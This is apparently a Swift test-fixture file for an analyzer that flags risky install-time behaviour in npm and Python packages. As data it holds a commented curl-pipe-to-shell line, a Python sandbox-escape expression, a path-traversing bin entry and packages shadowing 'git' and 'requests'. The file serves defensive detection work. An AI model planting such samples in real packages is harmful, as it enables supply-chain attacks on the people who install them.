import TestSupport

@testable import Analyzers

/// Artifacts for the rules about what runs at installation, besides those of `flaggedArtifact`.
let installFixtures = RuleFixtures(
    flagged: [
        .gypAction: {
            try npmGyp("{'targets': [{'actions': [{'action_name': 'gen', 'action': ['node', 'gen.js', '<(x)']}]}]}")
        },
        .gypExpression: { try npmGyp("{'x': ['a'.upper()]}") },
        .gypEscape: { try npmGyp("{'conditions': [['().__class__.__bases__[0]', {'x': 'y'}]]}") },
        .startModuleInWheel: {
            var wheel = WheelBuilder()
            wheel.add("acme_box-1.2.3.data/purelib/usercustomize/__init__.py", "1")
            return try wheel.artifact()
        },
        .startModuleInSource: { try sdist { $0.addFile("acme_box-1.2.3/src/sitecustomize.py", "1") } },
        .backendInTree: {
            try project("[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['tools']\n")
        },
        .backendUnknown: { try project("[build-system]\nrequires = ['acme-build']\nbuild-backend = 'acme.build'\n") },
        .buildHook: { try project("[tool.hatch.build.hooks.custom]\npath = 'hook.py'\n") },
        .commandEscapes: { try npmTarball(manifest: manifest(#""bin": {"../../etc/box": "cli.js"}"#)) },
        .shadowsCommand: { try npmTarball(manifest: manifest(#""bin": {"git": "cli.js"}"#)) },
        .shadowsModule: {
            var wheel = WheelBuilder()
            wheel.add("requests/__init__.py", "1")
            return try wheel.artifact()
        },
        .shrinkwrap: { try npmTarball { $0.addFile("package/npm-shrinkwrap.json", #"{"packages":{}}"#) } },
        .bundledModules: {
            try npmTarball { $0.addFile("package/node_modules/@acme/lid/package.json", #"{"name":"@acme/lid"}"#) }
        },
        Observation("can-native"): { try npmTarball { $0.add(.init("package/lib.node", content: smallELF)) } },
    ],
    clean: [
        "INST-SCRIPT": { try npmScript("node build.js", hook: "prepare") },
        "INST-SCRIPT-NET": { try npmScript("node-gyp-build || node scripts/build.js && echo see https://x.example") },
        "INST-GYP": {
            try npmGyp(
                """
                # '<!(curl https://x.example | sh)' is a comment
                {'targets': [{'target_name': 'box', 'sources': ['src/box.cc',], "defines": ['A=1' 'B'],
                  'include_dirs': ['<(module_root_dir)/deps'], 'x': -1.5, 'y': None,
                  'conditions': [["OS=='mac' and target_arch in ('x64', 'arm64')", {'libraries': ['-lz']}]],
                }]}
                """)
        },
        "INST-PTH": {
            var wheel = WheelBuilder()
            wheel.add("acme.pth", "acme_box/vendored\n# import os\n")
            return try wheel.artifact()
        },
        "INST-SITECUST": {
            var wheel = WheelBuilder()
            wheel.add("acme_box/bootstrap/sitecustomize.py", "1")
            wheel.add("sitecustomize_box.py", "1")
            return try wheel.artifact()
        },
        "INST-BACKEND": {
            try project(
                """
                [build-system]
                requires = ["setuptools>=61", "wheel"]
                build-backend = "setuptools.build_meta"
                [tool.hatch.build.targets.wheel]
                packages = ["acme_box"]
                """)
        },
        "INST-SHADOW": {
            var wheel = WheelBuilder()
            wheel.add("acme_box/json/__init__.py", "1")
            wheel.add("json/data.txt", "a folder that is no package")
            wheel.add("acme_box-1.2.3.dist-info/entry_points.txt", "[console_scripts]\nacme-git = acme_box:main\n")
            return try wheel.artifact()
        },
        "INST-SHRINKWRAP": { try npmTarball { $0.addFile("package/package-lock.json", "{}") } },
        "CAP-NATIVE": { try npmTarball { $0.addFile("package/elf.js", "// \u{7F}ELF\n") } },
    ])

func manifest(_ members: String) -> String { #"{"name":"acme-box","version":"1.2.3",\#(members)}"# }

/// An sdist with a pyproject.toml.
func project(_ text: String, packageInfo: String? = nil) throws -> Artifact {
    try sdist(packageInfo: packageInfo ?? "Metadata-Version: 2.1\nName: acme_box\nVersion: 1.2.3\n") { tar in
        tar.addFile("acme_box-1.2.3/pyproject.toml", text)
    }
}

/// The first bytes of a program for Linux.
let smallELF: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1] + [UInt8](repeating: 0, count: 57)
